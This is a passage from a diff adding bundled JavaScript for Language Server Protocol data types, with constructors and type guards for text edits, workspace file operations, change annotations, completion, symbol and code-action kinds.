+      TextEdit2.replace = replace;
+      function insert(position, newText) {
+        return { range: { start: position, end: position }, newText };
+      }
+      TextEdit2.insert = insert;
+      function del(range3) {
+        return { range: range3, newText: "" };
+      }
+      TextEdit2.del = del;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Is.string(candidate.newText) && Range.is(candidate.range);
+      }
+      TextEdit2.is = is;
+    })(TextEdit || (TextEdit = {}));
+    (function(ChangeAnnotation2) {
+      function create(label, needsConfirmation, description) {
+        const result = { label };
+        if (needsConfirmation !== void 0) {
+          result.needsConfirmation = needsConfirmation;
+        }
+        if (description !== void 0) {
+          result.description = description;
+        }
+        return result;
+      }
+      ChangeAnnotation2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Is.string(candidate.label) && (Is.boolean(candidate.needsConfirmation) || candidate.needsConfirmation === void 0) && (Is.string(candidate.description) || candidate.description === void 0);
+      }
+      ChangeAnnotation2.is = is;
+    })(ChangeAnnotation || (ChangeAnnotation = {}));
+    (function(ChangeAnnotationIdentifier2) {
+      function is(value) {
+        const candidate = value;
+        return Is.string(candidate);
+      }
+      ChangeAnnotationIdentifier2.is = is;
+    })(ChangeAnnotationIdentifier || (ChangeAnnotationIdentifier = {}));
+    (function(AnnotatedTextEdit2) {
+      function replace(range3, newText, annotation) {
+        return { range: range3, newText, annotationId: annotation };
+      }
+      AnnotatedTextEdit2.replace = replace;
+      function insert(position, newText, annotation) {
+        return { range: { start: position, end: position }, newText, annotationId: annotation };
+      }
+      AnnotatedTextEdit2.insert = insert;
+      function del(range3, annotation) {
+        return { range: range3, newText: "", annotationId: annotation };
+      }
+      AnnotatedTextEdit2.del = del;
+      function is(value) {
+        const candidate = value;
+        return TextEdit.is(candidate) && (ChangeAnnotation.is(candidate.annotationId) || ChangeAnnotationIdentifier.is(candidate.annotationId));
+      }
+      AnnotatedTextEdit2.is = is;
+    })(AnnotatedTextEdit || (AnnotatedTextEdit = {}));
+    (function(TextDocumentEdit2) {
+      function create(textDocument, edits) {
+        return { textDocument, edits };
+      }
+      TextDocumentEdit2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && OptionalVersionedTextDocumentIdentifier.is(candidate.textDocument) && Array.isArray(candidate.edits);
+      }
+      TextDocumentEdit2.is = is;
+    })(TextDocumentEdit || (TextDocumentEdit = {}));
+    (function(CreateFile2) {
+      function create(uri, options, annotation) {
+        const result = {
+          kind: "create",
+          uri
+        };
+        if (options !== void 0 && (options.overwrite !== void 0 || options.ignoreIfExists !== void 0)) {
+          result.options = options;
+        }
+        if (annotation !== void 0) {
+          result.annotationId = annotation;
+        }
+        return result;
+      }
+      CreateFile2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate && candidate.kind === "create" && Is.string(candidate.uri) && (candidate.options === void 0 || (candidate.options.overwrite === void 0 || Is.boolean(candidate.options.overwrite)) && (candidate.options.ignoreIfExists === void 0 || Is.boolean(candidate.options.ignoreIfExists))) && (candidate.annotationId === void 0 || ChangeAnnotationIdentifier.is(candidate.annotationId));
+      }
+      CreateFile2.is = is;
+    })(CreateFile || (CreateFile = {}));
+    (function(RenameFile2) {
+      function create(oldUri, newUri, options, annotation) {
+        const result = {
+          kind: "rename",
+          oldUri,
+          newUri
+        };
+        if (options !== void 0 && (options.overwrite !== void 0 || options.ignoreIfExists !== void 0)) {
+          result.options = options;
+        }
+        if (annotation !== void 0) {
+          result.annotationId = annotation;
+        }
+        return result;
+      }
+      RenameFile2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate && candidate.kind === "rename" && Is.string(candidate.oldUri) && Is.string(candidate.newUri) && (candidate.options === void 0 || (candidate.options.overwrite === void 0 || Is.boolean(candidate.options.overwrite)) && (candidate.options.ignoreIfExists === void 0 || Is.boolean(candidate.options.ignoreIfExists))) && (candidate.annotationId === void 0 || ChangeAnnotationIdentifier.is(candidate.annotationId));
+      }
+      RenameFile2.is = is;
+    })(RenameFile || (RenameFile = {}));
+    (function(DeleteFile2) {
+      function create(uri, options, annotation) {
+        const result = {
+          kind: "delete",
+          uri
+        };
+        if (options !== void 0 && (options.recursive !== void 0 || options.ignoreIfNotExists !== void 0)) {
+          result.options = options;
+        }
+        if (annotation !== void 0) {
+          result.annotationId = annotation;
+        }
+        return result;
+      }
+      DeleteFile2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate && candidate.kind === "delete" && Is.string(candidate.uri) && (candidate.options === void 0 || (candidate.options.recursive === void 0 || Is.boolean(candidate.options.recursive)) && (candidate.options.ignoreIfNotExists === void 0 || Is.boolean(candidate.options.ignoreIfNotExists))) && (candidate.annotationId === void 0 || ChangeAnnotationIdentifier.is(candidate.annotationId));
+      }
+      DeleteFile2.is = is;
+    })(DeleteFile || (DeleteFile = {}));
+    (function(WorkspaceEdit2) {
+      function is(value) {
+        const candidate = value;
+        return candidate && (candidate.changes !== void 0 || candidate.documentChanges !== void 0) && (candidate.documentChanges === void 0 || candidate.documentChanges.every((change) => {
+          if (Is.string(change.kind)) {
+            return CreateFile.is(change) || RenameFile.is(change) || DeleteFile.is(change);
+          } else {
+            return TextDocumentEdit.is(change);
+          }
+        }));
+      }
+      WorkspaceEdit2.is = is;
+    })(WorkspaceEdit || (WorkspaceEdit = {}));
+    TextEditChangeImpl = class {
+      constructor(edits, changeAnnotations) {
+        this.edits = edits;
+        this.changeAnnotations = changeAnnotations;
+      }
+      insert(position, newText, annotation) {
+        let edit;
+        let id;
+        if (annotation === void 0) {
+          edit = TextEdit.insert(position, newText);
+        } else if (ChangeAnnotationIdentifier.is(annotation)) {
+          id = annotation;
+          edit = AnnotatedTextEdit.insert(position, newText, annotation);
+        } else {
+          this.assertChangeAnnotations(this.changeAnnotations);
+          id = this.changeAnnotations.manage(annotation);
+          edit = AnnotatedTextEdit.insert(position, newText, id);
+        }
+        this.edits.push(edit);
+        if (id !== void 0) {
+          return id;
+        }
+      }
+      replace(range3, newText, annotation) {
+        let edit;
+        let id;
+        if (annotation === void 0) {
+          edit = TextEdit.replace(range3, newText);
+        } else if (ChangeAnnotationIdentifier.is(annotation)) {
+          id = annotation;
+          edit = AnnotatedTextEdit.replace(range3, newText, annotation);
+        } else {
+          this.assertChangeAnnotations(this.changeAnnotations);
+          id = this.changeAnnotations.manage(annotation);
+          edit = AnnotatedTextEdit.replace(range3, newText, id);
+        }
+        this.edits.push(edit);
+        if (id !== void 0) {
+          return id;
+        }
+      }
+      delete(range3, annotation) {
+        let edit;
+        let id;
+        if (annotation === void 0) {
+          edit = TextEdit.del(range3);
+        } else if (ChangeAnnotationIdentifier.is(annotation)) {
+          id = annotation;
+          edit = AnnotatedTextEdit.del(range3, annotation);
+        } else {
+          this.assertChangeAnnotations(this.changeAnnotations);
+          id = this.changeAnnotations.manage(annotation);
+          edit = AnnotatedTextEdit.del(range3, id);
+        }
+        this.edits.push(edit);
+        if (id !== void 0) {
+          return id;
+        }
+      }
+      add(edit) {
+        this.edits.push(edit);
+      }
+      all() {
+        return this.edits;
+      }
+      clear() {
+        this.edits.splice(0, this.edits.length);
+      }
+      assertChangeAnnotations(value) {
+        if (value === void 0) {
+          throw new Error(`Text edit change is not configured to manage change annotations.`);
+        }
+      }
+    };
+    (function(SnippetTextEdit2) {
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Range.is(candidate.range) && StringValue.isSnippet(candidate.snippet) && (candidate.annotationId === void 0 || (ChangeAnnotation.is(candidate.annotationId) || ChangeAnnotationIdentifier.is(candidate.annotationId)));
+      }
+      SnippetTextEdit2.is = is;
+    })(SnippetTextEdit || (SnippetTextEdit = {}));
+    ChangeAnnotations = class {
+      constructor(annotations) {
+        this._annotations = annotations === void 0 ? /* @__PURE__ */ Object.create(null) : annotations;
+        this._counter = 0;
+        this._size = 0;
+      }
+      all() {
+        return this._annotations;
+      }
+      get size() {
+        return this._size;
+      }
+      manage(idOrAnnotation, annotation) {
+        let id;
+        if (ChangeAnnotationIdentifier.is(idOrAnnotation)) {
+          id = idOrAnnotation;
+        } else {
+          id = this.nextId();
+          annotation = idOrAnnotation;
+        }
+        if (this._annotations[id] !== void 0) {
+          throw new Error(`Id ${id} is already in use.`);
+        }
+        if (annotation === void 0) {
+          throw new Error(`No annotation provided for id ${id}`);
+        }
+        this._annotations[id] = annotation;
+        this._size++;
+        return id;
+      }
+      nextId() {
+        this._counter++;
+        return this._counter.toString();
+      }
+    };
+    WorkspaceChange = class {
+      constructor(workspaceEdit) {
+        this._textEditChanges = /* @__PURE__ */ Object.create(null);
+        if (workspaceEdit !== void 0) {
+          this._workspaceEdit = workspaceEdit;
+          if (workspaceEdit.documentChanges) {
+            this._changeAnnotations = new ChangeAnnotations(workspaceEdit.changeAnnotations);
+            workspaceEdit.changeAnnotations = this._changeAnnotations.all();
+            workspaceEdit.documentChanges.forEach((change) => {
+              if (TextDocumentEdit.is(change)) {
+                const textEditChange = new TextEditChangeImpl(change.edits, this._changeAnnotations);
+                this._textEditChanges[change.textDocument.uri] = textEditChange;
+              }
+            });
+          } else if (workspaceEdit.changes) {
+            Object.keys(workspaceEdit.changes).forEach((key) => {
+              const textEditChange = new TextEditChangeImpl(workspaceEdit.changes[key]);
+              this._textEditChanges[key] = textEditChange;
+            });
+          }
+        } else {
+          this._workspaceEdit = {};
+        }
+      }
+      /**
+       * Returns the underlying {@link WorkspaceEdit} literal
+       * use to be returned from a workspace edit operation like rename.
+       */
+      get edit() {
+        this.initDocumentChanges();
+        if (this._changeAnnotations !== void 0) {
+          if (this._changeAnnotations.size === 0) {
+            this._workspaceEdit.changeAnnotations = void 0;
+          } else {
+            this._workspaceEdit.changeAnnotations = this._changeAnnotations.all();
+          }
+        }
+        return this._workspaceEdit;
+      }
+      getTextEditChange(key) {
+        if (OptionalVersionedTextDocumentIdentifier.is(key)) {
+          this.initDocumentChanges();
+          if (this._workspaceEdit.documentChanges === void 0) {
+            throw new Error("Workspace edit is not configured for document changes.");
+          }
+          const textDocument = { uri: key.uri, version: key.version };
+          let result = this._textEditChanges[textDocument.uri];
+          if (!result) {
+            const edits = [];
+            const textDocumentEdit = {
+              textDocument,
+              edits
+            };
+            this._workspaceEdit.documentChanges.push(textDocumentEdit);
+            result = new TextEditChangeImpl(edits, this._changeAnnotations);
+            this._textEditChanges[textDocument.uri] = result;
+          }
+          return result;
+        } else {
+          this.initChanges();
+          if (this._workspaceEdit.changes === void 0) {
+            throw new Error("Workspace edit is not configured for normal text edit changes.");
+          }
+          let result = this._textEditChanges[key];
+          if (!result) {
+            const edits = [];
+            this._workspaceEdit.changes[key] = edits;
+            result = new TextEditChangeImpl(edits);
+            this._textEditChanges[key] = result;
+          }
+          return result;
+        }
+      }
+      initDocumentChanges() {
+        if (this._workspaceEdit.documentChanges === void 0 && this._workspaceEdit.changes === void 0) {
+          this._changeAnnotations = new ChangeAnnotations();
+          this._workspaceEdit.documentChanges = [];
+          this._workspaceEdit.changeAnnotations = this._changeAnnotations.all();
+        }
+      }
+      initChanges() {
+        if (this._workspaceEdit.documentChanges === void 0 && this._workspaceEdit.changes === void 0) {
+          this._workspaceEdit.changes = /* @__PURE__ */ Object.create(null);
+        }
+      }
+      createFile(uri, optionsOrAnnotation, options) {
+        this.initDocumentChanges();
+        if (this._workspaceEdit.documentChanges === void 0) {
+          throw new Error("Workspace edit is not configured for document changes.");
+        }
+        let annotation;
+        if (ChangeAnnotation.is(optionsOrAnnotation) || ChangeAnnotationIdentifier.is(optionsOrAnnotation)) {
+          annotation = optionsOrAnnotation;
+        } else {
+          options = optionsOrAnnotation;
+        }
+        let operation;
+        let id;
+        if (annotation === void 0) {
+          operation = CreateFile.create(uri, options);
+        } else {
+          id = ChangeAnnotationIdentifier.is(annotation) ? annotation : this._changeAnnotations.manage(annotation);
+          operation = CreateFile.create(uri, options, id);
+        }
+        this._workspaceEdit.documentChanges.push(operation);
+        if (id !== void 0) {
+          return id;
+        }
+      }
+      renameFile(oldUri, newUri, optionsOrAnnotation, options) {
+        this.initDocumentChanges();
+        if (this._workspaceEdit.documentChanges === void 0) {
+          throw new Error("Workspace edit is not configured for document changes.");
+        }
+        let annotation;
+        if (ChangeAnnotation.is(optionsOrAnnotation) || ChangeAnnotationIdentifier.is(optionsOrAnnotation)) {
+          annotation = optionsOrAnnotation;
+        } else {
+          options = optionsOrAnnotation;
+        }
+        let operation;
+        let id;
+        if (annotation === void 0) {
+          operation = RenameFile.create(oldUri, newUri, options);
+        } else {
+          id = ChangeAnnotationIdentifier.is(annotation) ? annotation : this._changeAnnotations.manage(annotation);
+          operation = RenameFile.create(oldUri, newUri, options, id);
+        }
+        this._workspaceEdit.documentChanges.push(operation);
+        if (id !== void 0) {
+          return id;
+        }
+      }
+      deleteFile(uri, optionsOrAnnotation, options) {
+        this.initDocumentChanges();
+        if (this._workspaceEdit.documentChanges === void 0) {
+          throw new Error("Workspace edit is not configured for document changes.");
+        }
+        let annotation;
+        if (ChangeAnnotation.is(optionsOrAnnotation) || ChangeAnnotationIdentifier.is(optionsOrAnnotation)) {
+          annotation = optionsOrAnnotation;
+        } else {
+          options = optionsOrAnnotation;
+        }
+        let operation;
+        let id;
+        if (annotation === void 0) {
+          operation = DeleteFile.create(uri, options);
+        } else {
+          id = ChangeAnnotationIdentifier.is(annotation) ? annotation : this._changeAnnotations.manage(annotation);
+          operation = DeleteFile.create(uri, options, id);
+        }
+        this._workspaceEdit.documentChanges.push(operation);
+        if (id !== void 0) {
+          return id;
+        }
+      }
+    };
+    (function(TextDocumentIdentifier2) {
+      function create(uri) {
+        return { uri };
+      }
+      TextDocumentIdentifier2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.string(candidate.uri);
+      }
+      TextDocumentIdentifier2.is = is;
+    })(TextDocumentIdentifier || (TextDocumentIdentifier = {}));
+    (function(VersionedTextDocumentIdentifier2) {
+      function create(uri, version) {
+        return { uri, version };
+      }
+      VersionedTextDocumentIdentifier2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.string(candidate.uri) && Is.integer(candidate.version);
+      }
+      VersionedTextDocumentIdentifier2.is = is;
+    })(VersionedTextDocumentIdentifier || (VersionedTextDocumentIdentifier = {}));
+    (function(OptionalVersionedTextDocumentIdentifier2) {
+      function create(uri, version) {
+        return { uri, version };
+      }
+      OptionalVersionedTextDocumentIdentifier2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.string(candidate.uri) && (candidate.version === null || Is.integer(candidate.version));
+      }
+      OptionalVersionedTextDocumentIdentifier2.is = is;
+    })(OptionalVersionedTextDocumentIdentifier || (OptionalVersionedTextDocumentIdentifier = {}));
+    (function(LanguageKind2) {
+      LanguageKind2.ABAP = "abap";
+      LanguageKind2.WindowsBat = "bat";
+      LanguageKind2.BibTeX = "bibtex";
+      LanguageKind2.Clojure = "clojure";
+      LanguageKind2.Coffeescript = "coffeescript";
+      LanguageKind2.C = "c";
+      LanguageKind2.CPP = "cpp";
+      LanguageKind2.CSharp = "csharp";
+      LanguageKind2.CSS = "css";
+      LanguageKind2.D = "d";
+      LanguageKind2.Delphi = "pascal";
+      LanguageKind2.Diff = "diff";
+      LanguageKind2.Dart = "dart";
+      LanguageKind2.Dockerfile = "dockerfile";
+      LanguageKind2.Elixir = "elixir";
+      LanguageKind2.Erlang = "erlang";
+      LanguageKind2.FSharp = "fsharp";
+      LanguageKind2.GitCommit = "git-commit";
+      LanguageKind2.GitRebase = "git-rebase";
+      LanguageKind2.Go = "go";
+      LanguageKind2.Groovy = "groovy";
+      LanguageKind2.Handlebars = "handlebars";
+      LanguageKind2.Haskell = "haskell";
+      LanguageKind2.HTML = "html";
+      LanguageKind2.Ini = "ini";
+      LanguageKind2.Java = "java";
+      LanguageKind2.JavaScript = "javascript";
+      LanguageKind2.JavaScriptReact = "javascriptreact";
+      LanguageKind2.JSON = "json";
+      LanguageKind2.LaTeX = "latex";
+      LanguageKind2.Less = "less";
+      LanguageKind2.Lua = "lua";
+      LanguageKind2.Makefile = "makefile";
+      LanguageKind2.Markdown = "markdown";
+      LanguageKind2.ObjectiveC = "objective-c";
+      LanguageKind2.ObjectiveCPP = "objective-cpp";
+      LanguageKind2.Pascal = "pascal";
+      LanguageKind2.Perl = "perl";
+      LanguageKind2.Perl6 = "perl6";
+      LanguageKind2.PHP = "php";
+      LanguageKind2.Plaintext = "plaintext";
+      LanguageKind2.Powershell = "powershell";
+      LanguageKind2.Pug = "jade";
+      LanguageKind2.Python = "python";
+      LanguageKind2.R = "r";
+      LanguageKind2.Razor = "razor";
+      LanguageKind2.Ruby = "ruby";
+      LanguageKind2.Rust = "rust";
+      LanguageKind2.SCSS = "scss";
+      LanguageKind2.SASS = "sass";
+      LanguageKind2.Scala = "scala";
+      LanguageKind2.ShaderLab = "shaderlab";
+      LanguageKind2.ShellScript = "shellscript";
+      LanguageKind2.SQL = "sql";
+      LanguageKind2.Swift = "swift";
+      LanguageKind2.TypeScript = "typescript";
+      LanguageKind2.TypeScriptReact = "typescriptreact";
+      LanguageKind2.TeX = "tex";
+      LanguageKind2.VisualBasic = "vb";
+      LanguageKind2.XML = "xml";
+      LanguageKind2.XSL = "xsl";
+      LanguageKind2.YAML = "yaml";
+    })(LanguageKind || (LanguageKind = {}));
+    (function(TextDocumentItem2) {
+      function create(uri, languageId, version, text) {
+        return { uri, languageId, version, text };
+      }
+      TextDocumentItem2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.string(candidate.uri) && Is.string(candidate.languageId) && Is.integer(candidate.version) && Is.string(candidate.text);
+      }
+      TextDocumentItem2.is = is;
+    })(TextDocumentItem || (TextDocumentItem = {}));
+    (function(MarkupKind2) {
+      MarkupKind2.PlainText = "plaintext";
+      MarkupKind2.Markdown = "markdown";
+      function is(value) {
+        const candidate = value;
+        return candidate === MarkupKind2.PlainText || candidate === MarkupKind2.Markdown;
+      }
+      MarkupKind2.is = is;
+    })(MarkupKind || (MarkupKind = {}));
+    (function(MarkupContent2) {
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(value) && MarkupKind.is(candidate.kind) && Is.string(candidate.value);
+      }
+      MarkupContent2.is = is;
+    })(MarkupContent || (MarkupContent = {}));
+    (function(CompletionItemKind2) {
+      CompletionItemKind2.Text = 1;
+      CompletionItemKind2.Method = 2;
+      CompletionItemKind2.Function = 3;
+      CompletionItemKind2.Constructor = 4;
+      CompletionItemKind2.Field = 5;
+      CompletionItemKind2.Variable = 6;
+      CompletionItemKind2.Class = 7;
+      CompletionItemKind2.Interface = 8;
+      CompletionItemKind2.Module = 9;
+      CompletionItemKind2.Property = 10;
+      CompletionItemKind2.Unit = 11;
+      CompletionItemKind2.Value = 12;
+      CompletionItemKind2.Enum = 13;
+      CompletionItemKind2.Keyword = 14;
+      CompletionItemKind2.Snippet = 15;
+      CompletionItemKind2.Color = 16;
+      CompletionItemKind2.File = 17;
+      CompletionItemKind2.Reference = 18;
+      CompletionItemKind2.Folder = 19;
+      CompletionItemKind2.EnumMember = 20;
+      CompletionItemKind2.Constant = 21;
+      CompletionItemKind2.Struct = 22;
+      CompletionItemKind2.Event = 23;
+      CompletionItemKind2.Operator = 24;
+      CompletionItemKind2.TypeParameter = 25;
+    })(CompletionItemKind || (CompletionItemKind = {}));
+    (function(InsertTextFormat2) {
+      InsertTextFormat2.PlainText = 1;
+      InsertTextFormat2.Snippet = 2;
+    })(InsertTextFormat || (InsertTextFormat = {}));
+    (function(CompletionItemTag2) {
+      CompletionItemTag2.Deprecated = 1;
+    })(CompletionItemTag || (CompletionItemTag = {}));
+    (function(InsertReplaceEdit2) {
+      function create(newText, insert, replace) {
+        return { newText, insert, replace };
+      }
+      InsertReplaceEdit2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate && Is.string(candidate.newText) && Range.is(candidate.insert) && Range.is(candidate.replace);
+      }
+      InsertReplaceEdit2.is = is;
+    })(InsertReplaceEdit || (InsertReplaceEdit = {}));
+    (function(InsertTextMode2) {
+      InsertTextMode2.asIs = 1;
+      InsertTextMode2.adjustIndentation = 2;
+    })(InsertTextMode || (InsertTextMode = {}));
+    (function(ApplyKind2) {
+      ApplyKind2.Replace = 1;
+      ApplyKind2.Merge = 2;
+    })(ApplyKind || (ApplyKind = {}));
+    (function(CompletionItemLabelDetails2) {
+      function is(value) {
+        const candidate = value;
+        return candidate && (Is.string(candidate.detail) || candidate.detail === void 0) && (Is.string(candidate.description) || candidate.description === void 0);
+      }
+      CompletionItemLabelDetails2.is = is;
+    })(CompletionItemLabelDetails || (CompletionItemLabelDetails = {}));
+    (function(CompletionItem2) {
+      function create(label) {
+        return { label };
+      }
+      CompletionItem2.create = create;
+    })(CompletionItem || (CompletionItem = {}));
+    (function(CompletionList2) {
+      function create(items2, isIncomplete) {
+        return { items: items2 ? items2 : [], isIncomplete: !!isIncomplete };
+      }
+      CompletionList2.create = create;
+    })(CompletionList || (CompletionList = {}));
+    (function(MarkedString2) {
+      function fromPlainText(plainText) {
+        return plainText.replace(/[\\`*_{}[\]()#+\-.!]/g, "\\$&");
+      }
+      MarkedString2.fromPlainText = fromPlainText;
+      function is(value) {
+        const candidate = value;
+        return Is.string(candidate) || Is.objectLiteral(candidate) && Is.string(candidate.language) && Is.string(candidate.value);
+      }
+      MarkedString2.is = is;
+    })(MarkedString || (MarkedString = {}));
+    (function(Hover2) {
+      function is(value) {
+        const candidate = value;
+        return !!candidate && Is.objectLiteral(candidate) && (MarkupContent.is(candidate.contents) || MarkedString.is(candidate.contents) || Is.typedArray(candidate.contents, MarkedString.is)) && (value.range === void 0 || Range.is(value.range));
+      }
+      Hover2.is = is;
+    })(Hover || (Hover = {}));
+    (function(ParameterInformation2) {
+      function create(label, documentation) {
+        return documentation ? { label, documentation } : { label };
+      }
+      ParameterInformation2.create = create;
+    })(ParameterInformation || (ParameterInformation = {}));
+    (function(SignatureInformation2) {
+      function create(label, documentation, ...parameters) {
+        const result = { label };
+        if (Is.defined(documentation)) {
+          result.documentation = documentation;
+        }
+        if (Is.defined(parameters)) {
+          result.parameters = parameters;
+        } else {
+          result.parameters = [];
+        }
+        return result;
+      }
+      SignatureInformation2.create = create;
+    })(SignatureInformation || (SignatureInformation = {}));
+    (function(DocumentHighlightKind2) {
+      DocumentHighlightKind2.Text = 1;
+      DocumentHighlightKind2.Read = 2;
+      DocumentHighlightKind2.Write = 3;
+    })(DocumentHighlightKind || (DocumentHighlightKind = {}));
+    (function(DocumentHighlight2) {
+      function create(range3, kind) {
+        const result = { range: range3 };
+        if (Is.number(kind)) {
+          result.kind = kind;
+        }
+        return result;
+      }
+      DocumentHighlight2.create = create;
+    })(DocumentHighlight || (DocumentHighlight = {}));
+    (function(SymbolKind2) {
+      SymbolKind2.File = 1;
+      SymbolKind2.Module = 2;
+      SymbolKind2.Namespace = 3;
+      SymbolKind2.Package = 4;
+      SymbolKind2.Class = 5;
+      SymbolKind2.Method = 6;
+      SymbolKind2.Property = 7;
+      SymbolKind2.Field = 8;
+      SymbolKind2.Constructor = 9;
+      SymbolKind2.Enum = 10;
+      SymbolKind2.Interface = 11;
+      SymbolKind2.Function = 12;
+      SymbolKind2.Variable = 13;
+      SymbolKind2.Constant = 14;
+      SymbolKind2.String = 15;
+      SymbolKind2.Number = 16;
+      SymbolKind2.Boolean = 17;
+      SymbolKind2.Array = 18;
+      SymbolKind2.Object = 19;
+      SymbolKind2.Key = 20;
+      SymbolKind2.Null = 21;
+      SymbolKind2.EnumMember = 22;
+      SymbolKind2.Struct = 23;
+      SymbolKind2.Event = 24;
+      SymbolKind2.Operator = 25;
+      SymbolKind2.TypeParameter = 26;
+    })(SymbolKind || (SymbolKind = {}));
+    (function(SymbolTag2) {
+      SymbolTag2.Deprecated = 1;
+    })(SymbolTag || (SymbolTag = {}));
+    (function(SymbolInformation2) {
+      function create(name, kind, range3, uri, containerName) {
+        const result = {
+          name,
+          kind,
+          location: { uri, range: range3 }
+        };
+        if (containerName) {
+          result.containerName = containerName;
+        }
+        return result;
+      }
+      SymbolInformation2.create = create;
+    })(SymbolInformation || (SymbolInformation = {}));
+    (function(WorkspaceSymbol2) {
+      function create(name, kind, uri, range3) {
+        return range3 !== void 0 ? { name, kind, location: { uri, range: range3 } } : { name, kind, location: { uri } };
+      }
+      WorkspaceSymbol2.create = create;
+    })(WorkspaceSymbol || (WorkspaceSymbol = {}));
+    (function(DocumentSymbol2) {
+      function create(name, detail, kind, range3, selectionRange, children) {
+        const result = {
+          name,
+          detail,
+          kind,
+          range: range3,
+          selectionRange
+        };
+        if (children !== void 0) {
+          result.children = children;
+        }
+        return result;
+      }
+      DocumentSymbol2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate && Is.string(candidate.name) && Is.number(candidate.kind) && Range.is(candidate.range) && Range.is(candidate.selectionRange) && (candidate.detail === void 0 || Is.string(candidate.detail)) && (candidate.deprecated === void 0 || Is.boolean(candidate.deprecated)) && (candidate.children === void 0 || Array.isArray(candidate.children)) && (candidate.tags === void 0 || Array.isArray(candidate.tags));
+      }
+      DocumentSymbol2.is = is;
+    })(DocumentSymbol || (DocumentSymbol = {}));
+    (function(CodeActionKind2) {
+      CodeActionKind2.Empty = "";
+      CodeActionKind2.QuickFix = "quickfix";
+      CodeActionKind2.Refactor = "refactor";
+      CodeActionKind2.RefactorExtract = "refactor.extract";
+      CodeActionKind2.RefactorInline = "refactor.inline";
+      CodeActionKind2.RefactorMove = "refactor.move";
+      CodeActionKind2.RefactorRewrite = "refactor.rewrite";
+      CodeActionKind2.Source = "source";
+      CodeActionKind2.SourceOrganizeImports = "source.organizeImports";
+      CodeActionKind2.SourceFixAll = "source.fixAll";
+      CodeActionKind2.Notebook = "notebook";
+    })(CodeActionKind || (CodeActionKind = {}));
+    (function(CodeActionTriggerKind2) {
+      CodeActionTriggerKind2.Invoked = 1;
+      CodeActionTriggerKind2.Automatic = 2;
+    })(CodeActionTriggerKind || (CodeActionTriggerKind = {}));
+    (function(CodeActionContext2) {
+      function create(diagnostics, only, triggerKind) {
+        const result = { diagnostics };
+        if (only !== void 0 && only !== null) {
+          result.only = only;
+        }
+        if (triggerKind !== void 0 && triggerKind !== null) {
+          result.triggerKind = triggerKind;
+        }
+        return result;
+      }
+      CodeActionContext2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.typedArray(candidate.diagnostics, Diagnostic.is) && (candidate.only === void 0 || Is.typedArray(candidate.only, Is.string)) && (candidate.triggerKind === void 0 || candidate.triggerKind === CodeActionTriggerKind.Invoked || candidate.triggerKind === CodeActionTriggerKind.Automatic);
+      }
+      CodeActionContext2.is = is;
+    })(CodeActionContext || (CodeActionContext = {}));
+    (function(CodeActionTag2) {
+      CodeActionTag2.LLMGenerated = 1;
+      function is(value) {
+        return Is.defined(value) && value === CodeActionTag2.LLMGenerated;
+      }
+      CodeActionTag2.is = is;
+    })(CodeActionTag || (CodeActionTag = {}));
+    (function(CodeAction2) {
+      function create(title, kindOrCommandOrEdit, kind) {
+        const result = { title };
+        let checkKind = true;
+        if (typeof kindOrCommandOrEdit === "string") {
+          checkKind = false;
+          result.kind = kindOrCommandOrEdit;
+        } else if (Command2.is(kindOrCommandOrEdit)) {
+          result.command = kindOrCommandOrEdit;
+        } else {
+          result.edit = kindOrCommandOrEdit;
+        }
+        if (checkKind && kind !== void 0) {
+          result.kind = kind;
+        }
+        return result;
+      }
+      CodeAction2.create = create;
+      function is(value) {
+        const candidate = value;
+        return candidate && Is.string(candidate.title) && (candidate.diagnostics === void 0 || Is.typedArray(candidate.diagnostics, Diagnostic.is)) && (candidate.kind === void 0 || Is.string(candidate.kind)) && (candidate.edit !== void 0 || candidate.command !== void 0) && (candidate.command === void 0 || Command2.is(candidate.command)) && (candidate.isPreferred === void 0 || Is.boolean(candidate.isPreferred)) && (candidate.edit === void 0 || WorkspaceEdit.is(candidate.edit)) && (candidate.tags === void 0 || Is.typedArray(candidate.tags, CodeActionTag.is));
+      }
+      CodeAction2.is = is;
+    })(CodeAction || (CodeAction = {}));
+    (function(CodeLens2) {
+      function create(range3, data) {
+        const result = { range: range3 };
+        if (Is.defined(data)) {
+          result.data = data;
+        }
+        return result;
+      }
+      CodeLens2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Range.is(candidate.range) && (Is.undefined(candidate.command) || Command2.is(candidate.command));
+      }
+      CodeLens2.is = is;
+    })(CodeLens || (CodeLens = {}));
+    (function(FormattingOptions2) {
+      function create(tabSize, insertSpaces) {
+        return { tabSize, insertSpaces };
+      }
+      FormattingOptions2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.uinteger(candidate.tabSize) && Is.boolean(candidate.insertSpaces);
+      }
+      FormattingOptions2.is = is;
+    })(FormattingOptions || (FormattingOptions = {}));
+    (function(DocumentLink2) {
+      function create(range3, target, data) {
+        return { range: range3, target, data };
+      }
+      DocumentLink2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Range.is(candidate.range) && (Is.undefined(candidate.target) || Is.string(candidate.target));
+      }
+      DocumentLink2.is = is;
+    })(DocumentLink || (DocumentLink = {}));
+    (function(SelectionRange2) {
+      function create(range3, parent) {
+        return { range: range3, parent };
+      }
+      SelectionRange2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Range.is(candidate.range) && (candidate.parent === void 0 || SelectionRange2.is(candidate.parent));
+      }
+      SelectionRange2.is = is;
+    })(SelectionRange || (SelectionRange = {}));
+    (function(SemanticTokenTypes2) {
+      SemanticTokenTypes2["namespace"] = "namespace";
